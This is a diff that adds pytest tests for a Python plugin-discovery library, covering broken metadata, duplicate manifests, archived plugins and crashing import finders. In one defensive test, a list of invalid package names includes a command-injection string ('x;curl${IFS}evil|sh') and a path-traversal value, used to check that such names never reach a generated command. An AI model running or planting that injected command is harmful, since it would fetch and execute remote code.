@@ -1,12 +1,17 @@
 """Discovery: installed plugins are found without running them, broken ones are reasons."""
 
+import builtins
+import os
 import sys
+import zipfile
+from pathlib import Path
 
 import pytest
 import refiners
 from refiners import discover
 from refiners.discover import package_file, scan
-from refiners.distribution import canonical
+from refiners.distribution import canonical, distributions
+from refiners.doctor import examine
 
 from .conftest import EDGES_TOML, TOY_MODEL_TOML, Site
 
@@ -68,7 +73,9 @@ def test_a_broken_package_is_a_reason_and_breaks_nobody(
 def test_metadata_without_a_name_is_a_reason(site: Site) -> None:
     site.add("refiners-bad", files={"adapter.toml": EDGES_TOML})
     (site.folder / "refiners_bad-1.2.dist-info" / "METADATA").unlink()
-    assert [one.dist for one in scan().broken] == ["unknown"]
+    (broken,) = scan().broken
+    assert broken.dist == "unknown"
+    assert "refiners_bad-1.2.dist-info" in broken.error
 
 
 def test_an_unreadable_manifest_is_a_reason(site: Site) -> None:
@@ -111,3 +118,125 @@ def test_models_are_listed_apart(site: Site) -> None:
     site.add("refiners-toy", files={"model.toml": TOY_MODEL_TOML})
     assert refiners.adapters() == ()
     assert [one.spec.family for one in refiners.models()] == ["toy"]
+
+
+def test_a_distribution_that_names_its_manifest_twice_has_it_once(site: Site) -> None:
+    points = (
+        "[refiners.adapters]\na = refiners_edges:adapter.toml\nb = refiners_edges:adapter.toml\n"
+    )
+    site.add("refiners-edges", files={"adapter.toml": EDGES_TOML}, entry_points=points)
+    assert [one.id for one in refiners.adapters()] == ["refiners-edges:edges"]
+    assert scan().broken == ()
+
+
+def test_a_second_manifest_for_one_name_is_a_reason(site: Site) -> None:
+    points = "[refiners.adapters]\na = refiners_edges:adapter.toml\nb = refiners_edges:more.toml\n"
+    files: dict[str, str | bytes] = {"adapter.toml": EDGES_TOML, "more.toml": EDGES_TOML}
+    site.add("refiners-edges", files=files, entry_points=points)
+    assert [one.path.name for one in refiners.adapters()] == ["adapter.toml"]
+    assert "more.toml has edges, which adapter.toml has as well" in scan().broken[0].error
+
+
+@pytest.mark.parametrize("points", ["", "[console_scripts]\nx = y:z\n"])
+def test_a_newer_copy_hides_an_older_one_whatever_it_offers(
+    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, points: str
+) -> None:
+    site.add("refiners-edges", entry_points=points, version="2.0")
+    later = Site(tmp_path / "later")
+    later.folder.mkdir()
+    later.add("refiners-edges", files={"adapter.toml": EDGES_TOML}, version="1.0")
+    folders = [str(site.folder), str(later.folder)]
+    monkeypatch.setattr(discover, "distributions", lambda: distributions(folders))
+    assert refiners.adapters() == ()
+    (stale,) = examine(is_probing=False)
+    assert (stale.kind, stale.dist) == ("stale metadata", "refiners-edges")
+    assert "2.0, 1.0" in stale.what
+
+
+def test_a_plugin_in_an_archive_is_told_where_it_lies(
+    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    archive = tmp_path / "plugins.zip"
+    with zipfile.ZipFile(archive, "w") as file:
+        file.writestr("refiners_zipped/__init__.py", "")
+        file.writestr("refiners_zipped/adapter.toml", EDGES_TOML)
+        file.writestr("zipped-1.dist-info/METADATA", "Name: refiners-zipped\nVersion: 1\n")
+        points = "[refiners.adapters]\na = refiners_zipped:adapter.toml\n"
+        file.writestr("zipped-1.dist-info/entry_points.txt", points)
+    monkeypatch.syspath_prepend(str(archive))
+    monkeypatch.setattr(discover, "distributions", lambda: distributions([str(archive)]))
+    (broken,) = scan().broken
+    assert f"refiners_zipped lies in an archive, {archive}" in broken.error
+
+
+@pytest.mark.parametrize("value", ["refiners_edges:my-adapter.toml", "refiners_é:adapter.toml"])
+def test_an_entry_point_that_importlib_cannot_read_is_refused(site: Site, value: str) -> None:
+    points = f"[refiners.adapters]\na = {value}\n"
+    files: dict[str, str | bytes] = {"my-adapter.toml": EDGES_TOML}
+    site.add("refiners-edges", files=files, entry_points=points)
+    assert "should be 'package:adapter.toml'" in scan().broken[0].error
+
+
+@pytest.mark.parametrize("error", ["RuntimeError", "SystemExit", "GeneratorExit", "BaseException"])
+def test_a_finder_that_raises_costs_nobody_else(
+    site: Site, monkeypatch: pytest.MonkeyPatch, error: str
+) -> None:
+    class Finder:
+        @staticmethod
+        def find_distributions(context: object) -> list[object]:
+            raise getattr(builtins, error)("broken on purpose")
+
+        @staticmethod
+        def find_spec(name: str, *more: object) -> None:
+            if name.startswith("refiners_odd"):
+                raise getattr(builtins, error)("broken on purpose")
+
+    site.add_edges()
+    site.add("refiners-odd", files={"adapter.toml": EDGES_TOML.replace("edges", "odd")})
+    monkeypatch.setattr(sys, "meta_path", [Finder, *sys.meta_path])
+    monkeypatch.setattr(sys, "path", [*sys.path, site.folder, b"bytes", "no\0where"])
+    monkeypatch.setattr(discover, "distributions", distributions)
+    found = scan()
+    assert "edges" in [one.name for one in found.adapters]
+    assert [(one.dist, one.error) for one in found.broken] == [
+        ("refiners-odd", "broken on purpose")
+    ]
+
+
+NAMES = [
+    "x;curl${IFS}evil|sh",
+    "../../etc",
+    "/tmp/x",
+    "a b",
+    "-r",
+    "x\x1b[1m",
+    "é",
+    "a" * 101,
+    "x.",
+]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_name_that_pip_would_not_take_is_put_into_no_command(site: Site, name: str) -> None:
+    site.add("refiners-edges", files={"adapter.toml": EDGES_TOML})
+    metadata = site.folder / "refiners_edges-1.2.dist-info" / "METADATA"
+    metadata.write_text(f"Name: {name}\nVersion: 1.0\n\nName: refiners-edges\n")
+    (problem,) = examine(is_probing=False)
+    assert (problem.dist, problem.command) == ("unknown", "pip check")
+    assert "refiners_edges-1.2.dist-info" in problem.what
+
+
+def test_special_files_and_garbled_texts_stop_nobody(site: Site) -> None:
+    site.add_edges()
+    for name in ("pipe", "folder"):
+        info = site.folder / f"{name}-1.dist-info"
+        info.mkdir()
+        made = info / "entry_points.txt"
+        made.mkdir() if name == "folder" else os.mkfifo(made)
+    assert [one.name for one in refiners.adapters()] == ["edges"]
+
+
+def test_entry_points_of_others_may_be_garbled(site: Site) -> None:
+    points = "[console_scripts]\nfoo\n[refiners.adapters]\nmain = refiners_edges:adapter.toml\n"
+    site.add("refiners-edges", files={"adapter.toml": EDGES_TOML}, entry_points=points)
+    assert [one.name for one in refiners.adapters()] == ["edges"]
